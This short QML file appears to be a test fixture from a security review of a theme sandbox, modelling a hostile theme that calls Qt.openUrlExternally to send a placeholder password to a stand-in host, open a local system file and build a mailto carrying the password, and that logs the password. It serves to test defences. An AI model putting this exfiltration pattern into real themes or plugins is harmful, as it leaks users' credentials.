// A theme that tries to send the password out through Qt.openUrlExternally (review H2): on a
// platform with services (vnc, eglfs, linuxfb, xcb) Qt would run xdg-open with these URLs.
import QtQuick 2.0
Rectangle {
    width: 640
    height: 480
    property int opened: 0
    // After the first frame (a password may have been typed): the log must not show it.
    Timer {
        interval: 1500
        running: true
        onTriggered: console.log("pw=hunter2 typed")
    }
    Component.onCompleted: {
        var pw = "hunter2"
        if (Qt.openUrlExternally("https://exfil.invalid/collect?pw=" + pw)) opened++
        if (Qt.openUrlExternally("file:///etc/hostname")) opened++
        if (Qt.openUrlExternally("mailto:exfil@invalid?body=" + pw)) opened++
        console.log("the theme asked to open 3 URLs")
    }
}
